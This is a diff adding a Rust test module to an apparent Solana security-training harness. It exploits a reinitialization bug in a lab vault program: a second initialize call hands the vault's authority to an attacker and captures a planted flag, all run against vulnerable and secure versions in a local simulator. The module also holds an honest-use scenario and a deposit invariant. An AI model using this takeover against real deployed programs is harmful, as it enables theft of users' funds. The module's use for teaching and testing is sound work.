@@ -0,0 +1,165 @@
+//! initialize runs again on a live vault and hands it to the attacker
+
+use anyhow::{ensure, Result as AnyResult};
+use borsh::BorshDeserialize;
+use lab_domain::VaultConfig;
+use lab_instructions::reinitialization::{deposit_ix, initialize_ix};
+use lab_svm::{Signer, Svm, LAMPORTS_PER_SOL};
+use solana_common::discriminator::AccountDiscriminator;
+use solana_program::entrypoint::ProcessInstruction;
+use solana_program::pubkey::Pubkey;
+
+use super::{deploy, fund, program_account};
+use crate::ctf::{self, Goal};
+use crate::invariants::{owned, spendable, Invariant};
+use crate::{attacker, fixtures, owner, vulnerability, Harness, Version};
+
+/// a second initialize makes the attacker the vault's authority
+#[vulnerability(
+    id = "SOL-005",
+    category = "Reinitialization",
+    severity = "Critical",
+    difficulty = "Intermediate",
+    rejection = "instruction requires an uninitialized account",
+    prerequisite = "missing_owner_check",
+    honest_use = honest_use,
+    reference(
+        title = "Sealevel Attacks: initialization",
+        url = "https://github.com/coral-xyz/sealevel-attacks/tree/master/programs/4-initialization",
+    )
+)]
+fn exploit(harness: &mut Harness) -> AnyResult<()> {
+    match harness.version() {
+        // VaultConfig: authority, total_deposited, fee_percentage
+        Version::Vulnerable => attack(
+            harness,
+            reinitialization::process_instruction,
+            VaultConfig::LEN,
+            0,
+        ),
+        // The secure version leads with VaultConfig's discriminator
+        Version::Secure => attack(
+            harness,
+            reinitialization_secure::process_instruction,
+            VaultConfig::SPACE,
+            VaultConfig::DISCRIMINATOR.len(),
+        ),
+    }
+}
+
+const FEE_PERCENTAGE: u8 = 1;
+const DEPOSITED: u64 = LAMPORTS_PER_SOL / 2;
+
+fn attack(
+    svm: &mut Svm,
+    program: ProcessInstruction,
+    space: usize,
+    authority_offset: usize,
+) -> AnyResult<()> {
+    let program_id = deploy(svm, "reinitialization", program);
+    let vault = program_account(
+        svm,
+        fixtures::address("reinitialization/vault"),
+        &program_id,
+        vec![0; space],
+        LAMPORTS_PER_SOL,
+    );
+    let initialize =
+        |authority: Pubkey| initialize_ix(program_id, vault, authority, FEE_PERCENTAGE);
+
+    let owner_key = fund(svm, &owner());
+    svm.send(&[initialize(owner_key)], &[&owner()])?;
+
+    let flag = ctf::plant(
+        svm,
+        program_id,
+        Goal::Authority {
+            account: vault,
+            offset: authority_offset as u32,
+        },
+    )?;
+
+    let attacker_key = fund(svm, &attacker());
+    svm.send(&[initialize(attacker_key)], &[&attacker()])?;
+
+    let data = &svm.get_account(&vault).expect("vault exists").data;
+    let authority = &data[authority_offset..authority_offset + 32];
+    ensure!(
+        authority == attacker_key.as_ref(),
+        "the vault's authority is still {}",
+        Pubkey::try_from(authority)?
+    );
+    ctf::capture(svm, &flag)
+}
+
+/// The owner initializes the vault once, then a depositor pays into it
+fn honest_use(harness: &mut Harness) -> AnyResult<()> {
+    let (program, space): (ProcessInstruction, usize) = match harness.version() {
+        Version::Vulnerable => (reinitialization::process_instruction, VaultConfig::LEN),
+        Version::Secure => (
+            reinitialization_secure::process_instruction,
+            VaultConfig::SPACE,
+        ),
+    };
+    let program_id = deploy(harness, "reinitialization", program);
+    let vault = program_account(
+        harness,
+        fixtures::address("reinitialization/vault"),
+        &program_id,
+        vec![0; space],
+        LAMPORTS_PER_SOL,
+    );
+    let owner_key = fund(harness, &owner());
+    // Deposits debit the depositor, so the program has to own their account
+    let depositor = fixtures::keypair("reinitialization/depositor");
+    program_account(
+        harness,
+        depositor.pubkey(),
+        &program_id,
+        Vec::new(),
+        DEPOSITED,
+    );
+
+    harness.send(
+        &[initialize_ix(program_id, vault, owner_key, FEE_PERCENTAGE)],
+        &[&owner()],
+    )?;
+    harness.send(
+        &[deposit_ix(program_id, vault, depositor.pubkey(), DEPOSITED)],
+        &[&depositor],
+    )?;
+    Ok(())
+}
+
+/// What the example's accounts must add up to
+pub(crate) static INVARIANTS: &[&dyn Invariant] = &[&Deposited];
+
+/// Every vault holds, beyond its rent, what it counts as deposited
+struct Deposited;
+
+impl Invariant for Deposited {
+    fn name(&self) -> &'static str {
+        "vault lamports >= total_deposited"
+    }
+
+    fn check(&self, svm: &Svm, program_id: &Pubkey) -> Result<(), String> {
+        for (address, account) in owned(svm, program_id) {
+            // The secure version writes a discriminator first; the
+            // vulnerable one writes the fields alone
+            let fields = match account.data.strip_prefix(&VaultConfig::DISCRIMINATOR) {
+                Some(fields) if account.data.len() == VaultConfig::SPACE => fields,
+                _ if account.data.len() == VaultConfig::LEN => &account.data,
+                _ => continue,
+            };
+            let vault = VaultConfig::deserialize(&mut &fields[..]).map_err(|e| e.to_string())?;
+            let held = spendable(svm, account);
+            if held < vault.total_deposited {
+                return Err(format!(
+                    "vault {address} counts {} deposited but holds {held} beyond rent",
+                    vault.total_deposited
+                ));
+            }
+        }
+        Ok(())
+    }
+}